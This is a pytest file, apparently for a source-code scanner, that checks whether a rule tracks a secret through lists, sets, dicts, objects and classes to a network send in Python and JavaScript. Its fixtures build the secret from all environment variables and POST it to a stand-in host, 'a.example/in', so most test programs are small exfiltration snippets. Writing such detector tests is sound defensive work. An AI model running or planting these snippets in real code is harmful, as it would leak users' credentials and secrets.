"""What is put into a list, a set, an object or a class after it was made flows out of it, also where a function puts it in."""

from __future__ import annotations

import pytest

from scan.rules.code import acts_in

FRAME = {
    "python": "import json, os, urllib.request\ndef send(what):\n    urllib.request.urlopen('https://a.example/in', data=what)\nSECRET = str(dict(os.environ))\n{}\n",
    "javascript": "const send = (what) => fetch('https://a.example/in', { method: 'POST', body: what });\nconst SECRET = JSON.stringify(process.env);\n{}\n",
}
PUT = {
    "python": (
        "out = ['x', 'y']; out.append(SECRET)",
        "out = ['x', 'y']; out.extend([SECRET])",
        "out = ['x', 'y']; out.insert(0, SECRET)",
        "out = ['x', 'y']; out[0] = SECRET",
        "out = ['x', 'y']; out += [SECRET]",
        "def fill(rows):\n    rows.append(SECRET)\nout = ['x', 'y']; fill(out)",
        "out = ['x', 'y']\ndef fill():\n    out.append(SECRET)\nfill()",
    ),
    "javascript": (
        "const out = ['x', 'y']; out.push(SECRET)",
        "const out = ['x', 'y']; out.unshift(SECRET)",
        "const out = ['x', 'y']; out.splice(0, 1, SECRET)",
        "const out = ['x', 'y']; out[0] = SECRET",
        "let out = ['x', 'y']; out = out.concat(SECRET)",
        "const fill = (rows) => rows.push(SECRET); const out = ['x', 'y']; fill(out)",
        "const out = ['x', 'y']; function fill() { out.push(SECRET); } fill()",
    ),
}
TAKEN = {
    "python": (
        "for each in out:\n    send(each)",
        "for place, each in enumerate(out):\n    send(each)",
        "send('\\n'.join(out))",
        "send(json.dumps(out))",
        "send([each for each in out if each])",
        "send(out[-1])",
    ),
    "javascript": (
        "for (const each of out) send(each)",
        "out.forEach((each) => send(each))",
        "send(out.join())",
        "send(JSON.stringify(out))",
        "send(out[2])",
    ),
}
ALONE = {
    "python": (
        "out = [('a', 'x'), ('b', 'y')]; out.append(('c', SECRET))\nfor name, value in out:\n    send(value)",
        "out = [{'a': 'x'}, {'a': 'y'}]; out.append({'a': SECRET})\nfor row in out:\n    send(row['a'])",
        "out = {'x', 'y'}; out.add(SECRET)\nfor each in out:\n    send(each)",
        "out = {'a': ['x']}; out['a'].append(SECRET); send(out['a'][0])",
        "out = {'a': 'x'}; out.__setitem__('z', SECRET); send(json.dumps(out))",
        "def fill(table):\n    table['z'] = SECRET\nout = {'a': 'x'}; fill(table=out); send(json.dumps(out))",
        "class A:\n    z = ''\nsetattr(A, 'z', SECRET); send(A.z)",
        "class A:\n    z = ''\nA.z = SECRET; send(getattr(A, 'z', ''))",
        "class A:\n    rows = ['x']\nA.rows.append(SECRET); send(A.rows[0])",
        "class A:\n    def __init__(self):\n        self.out = ['x', 'y']\n    def add(self, what):\n        self.out.append(what)\n    def go(self):\n        for each in self.out:\n            send(each)\na = A(); a.add(SECRET); a.go()",
    ),
    "javascript": (
        "const out = [['a', 'x'], ['b', 'y']]; out.push(['c', SECRET]); for (const [name, value] of out) send(value)",
        "const out = [{ a: 'x' }, { a: 'y' }]; out.push({ a: SECRET }); for (const { a } of out) send(a)",
        "const out = new Set(['x', 'y']); out.add(SECRET); for (const each of out) send(each)",
        "const out = new Map([['a', 'x'], ['b', 'y']]); out.set('z', SECRET); for (const [name, value] of out) send(value)",
        "const out = { a: ['x'] }; out.a.push(SECRET); send(out.a[0])",
        "const out = { a: 'x' }; Object.assign(out, { z: SECRET }); send(out.z)",
        "const out = { a: 'x' }; Object.assign(out, { z: SECRET }); send(JSON.stringify(out))",
        "const out = { a: 'x' }; Reflect.set(out, 'z', SECRET); send(JSON.stringify(out))",
        "const out = { a: 'x' }; Object.defineProperty(out, 'z', { value: SECRET }); send(JSON.stringify(out))",
        "const out = { a: 'x' }; out.z = SECRET; for (const name in out) send(out[name])",
        "const out = { a: 'x' }; out.z = SECRET; Object.keys(out).forEach((name) => send(out[name]))",
        "function fill(table) { table.z = SECRET; } const out = { a: 'x' }; fill(out); send(JSON.stringify(out))",
        "class A { out = { a: 'x' }; add(what) { this.out.z = what; } go() { send(JSON.stringify(this.out)); } } const a = new A(); a.add(SECRET); a.go()",
    ),
}
HONEST = {
    "python": (
        "out = ['x', 'y']; out.append(SECRET); rest = ['z']; send(json.dumps(rest))",
        "out = [SECRET, 'x']; send(out[1])",
        "out = {'a': SECRET, 'b': 'x'}; send(out['b'])",
        "out = {'a': SECRET, 'b': 'x'}; send(out.get('b'))",
        "def fill(rows):\n    rows.append(SECRET)\nout = ['x']; rest = ['y']; fill(out); send(json.dumps(rest))",
        "def keep():\n    rows = ['x']; rows.append(SECRET)\ndef tell():\n    rows = ['y']; send(json.dumps(rows))\nkeep(); tell()",
    ),
    "javascript": (
        "const out = ['x', 'y']; out.push(SECRET); const rest = ['z']; send(JSON.stringify(rest))",
        "const out = [SECRET, 'x']; send(out[1])",
        "const out = { a: 'x' }; out.z = SECRET; send(out.a)",
        "const out = { a: 'x' }; Object.assign(out, { z: SECRET }); send(out.a)",
        "function fill(table) { table.z = SECRET; } const out = { a: 'x' }, rest = { b: 'y' }; fill(out); send(JSON.stringify(rest))",
        "function keep() { const t = { a: 'x' }; t.z = SECRET; } function tell() { const t = { b: 'y' }; send(JSON.stringify(t)); } keep(); tell()",
    ),
}


def _sends(language: str, program: str) -> list[bool]:
    """Of each message, whether it carries what was put in."""
    acts = acts_in(FRAME[language].replace("{}\n", f"{program}\n"), language)
    return ["environment" in act.carries for act in acts if act.kind in {"send", "fetch"}]


@pytest.mark.parametrize("language", FRAME)
def test_what_is_put_into_a_list_flows_out_of_it(language: str) -> None:
    programs = [f"{put}\n{taken}" for put in PUT[language] for taken in TAKEN[language]]

    assert [program for program in programs if not any(_sends(language, program))] == []


@pytest.mark.parametrize("language", FRAME)
def test_what_is_put_into_anything_flows_out_of_it(language: str) -> None:
    assert [program for program in ALONE[language] if not any(_sends(language, program))] == []


@pytest.mark.parametrize("language", FRAME)
def test_what_is_put_elsewhere_stays_there(language: str) -> None:
    told = {program: _sends(language, program) for program in HONEST[language]}

    assert [program for program, carried in told.items() if any(carried) or not carried] == []
